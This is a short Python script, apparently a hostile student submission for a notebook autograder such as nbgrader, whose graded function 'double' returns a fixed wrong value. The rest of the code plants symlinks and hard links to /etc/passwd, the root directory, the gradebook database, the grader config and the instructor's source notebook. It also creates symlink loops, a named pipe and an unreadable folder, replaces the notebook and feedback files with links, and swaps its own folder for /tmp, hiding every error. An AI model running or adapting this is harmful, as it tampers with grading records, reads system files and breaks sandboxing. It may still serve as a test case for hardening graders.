"""Leaves links in its folder that point out of it, and puts links in the place of its notebook and of the folder itself."""

import contextlib
import glob
import os

here = os.getcwd()
targets = [
    "/etc/passwd",
    "/",
    "..",
    "../..",
    "../../gradebook.db",
    "../../../gradebook.db",
    "../../../../nbgrader_config.py",
    "../../../source/victim/victim.ipynb",
    "../../../autograded",
    "/proc/self/root",
    "/dev/zero",
    "/dev/stdin",
    "loop",
    *glob.glob("../*"),
]
for number, target in enumerate(targets):
    with contextlib.suppress(Exception):
        os.symlink(target, f"link-{number}.ipynb")
    with contextlib.suppress(Exception):
        os.link(target, f"hard-{number}")
        print("hard link to", target)
    with contextlib.suppress(Exception):
        if os.path.isfile(f"link-{number}.ipynb"):
            print("through the link", number, len(open(f"link-{number}.ipynb", "rb").read()))
with contextlib.suppress(Exception):
    os.symlink("loop", "loop")
    os.mkfifo("pipe.ipynb")
    os.mkdir("folder.ipynb", 0o000)
for notebook in glob.glob("[!lfp]*.ipynb") + ["victim.ipynb", "timestamp.txt", "feedback.html"]:
    for target in ("../../../gradebook.db", "../../../source/victim/victim.ipynb", "/etc/passwd"):
        with contextlib.suppress(Exception):
            os.symlink(target, f"{notebook}.new")
            os.replace(f"{notebook}.new", notebook)
            print("replaced", notebook)
with contextlib.suppress(Exception):
    os.rename(here, f"{here}-moved")
    os.symlink("/tmp", here)
    print("replaced the folder", here)


def double(x):
    return -12345.678
